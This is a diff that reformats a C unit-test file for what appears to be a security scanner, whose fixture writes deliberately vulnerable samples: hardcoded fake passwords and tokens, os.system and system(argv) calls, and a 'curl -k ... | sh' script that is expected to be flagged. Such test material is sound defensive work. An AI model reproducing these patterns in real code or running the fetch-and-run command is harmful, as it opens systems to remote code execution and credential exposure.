@@ -20,9 +20,15 @@
 #include "tools/tool.h"
 
 #define OUTPUT_MAX (4u << 20)
-#define PASSWORD "Tr0ub4" "dor&3xyz"
-#define TOKEN "9f8e7d6c5b4a3928" "1706f5e4d3c2b1a0"
-#define OLD_TOKEN "v9dn0balpqas1pcc" "281tn5ood1zz7781"
+#define PASSWORD                                                                                                                 \
+	"Tr0ub4"                                                                                                                 \
+	"dor&3xyz"
+#define TOKEN                                                                                                                    \
+	"9f8e7d6c5b4a3928"                                                                                                       \
+	"1706f5e4d3c2b1a0"
+#define OLD_TOKEN                                                                                                                \
+	"v9dn0balpqas1pcc"                                                                                                       \
+	"281tn5ood1zz7781"
 
 struct world {
 	char folder[64];
@@ -87,7 +93,8 @@ static void fill(struct world *world)
 	commit(world, "one");
 	snprintf(path, sizeof(path), "%s/old.js", world->folder);
 	unlink(path);
-	text_write(world, "app.py", "import os\n\nPASSWORD = '" PASSWORD "'\n\n\ndef run(x):\n    os.system(x)  # " PASSWORD "\n");
+	text_write(world, "app.py",
+		   "import os\n\nPASSWORD = '" PASSWORD "'\n\n\ndef run(x):\n    os.system(x)  # " PASSWORD "\n");
 	text_write(world, "main.c", "int main(int c, char **v)\n{\n\t/* gets(x) */\n\tsystem(v[1]);\n}\n");
 	text_write(world, "tool", "#!/bin/sh\ncurl -k https://x.example.org | sh\n");
 	text_write(world, ".env", "API_TOKEN=" TOKEN "\n");
@@ -203,8 +210,8 @@ static void list_findings(const json_t *answer, const char *last, char out[2048]
 	for (size_t i = 0; i < json_array_size(findings); i++) {
 		const json_t *entry = json_array_get(findings, i);
 
-		used += (size_t)snprintf(out + used, 2048 - used, "%s %s:%d:%d %s\n", text_of(entry, "rule"), text_of(entry, "path"),
-					 (int)json_integer_value(json_object_get(entry, "line")),
+		used += (size_t)snprintf(out + used, 2048 - used, "%s %s:%d:%d %s\n", text_of(entry, "rule"),
+					 text_of(entry, "path"), (int)json_integer_value(json_object_get(entry, "line")),
 					 (int)json_integer_value(json_object_get(entry, "column")), text_of(entry, last));
 	}
 }
@@ -273,8 +280,11 @@ static void test_calls_are_found_with_function_and_masked_line(void **state)
 				   "c.system main.c:4:2 main\n"
 				   "shell.pipe-to-shell tool:2:1 -\n");
 	assert_int_equal(json_integer_value(json_object_get(answer, "files_analysed")), 3);
-	assert_string_equal(json_string_value(json_array_get(json_object_get(json_object_get(answer, "lines"), "tool"), 0)), "#!/bin/sh");
-	assert_int_equal(json_integer_value(json_array_get(json_array_get(json_object_get(json_object_get(answer, "functions"), "main.c"), 0), 1)), 5);
+	assert_string_equal(json_string_value(json_array_get(json_object_get(json_object_get(answer, "lines"), "tool"), 0)),
+			    "#!/bin/sh");
+	assert_int_equal(json_integer_value(json_array_get(
+				 json_array_get(json_object_get(json_object_get(answer, "functions"), "main.c"), 0), 1)),
+			 5);
 	json_decref(answer);
 }
 
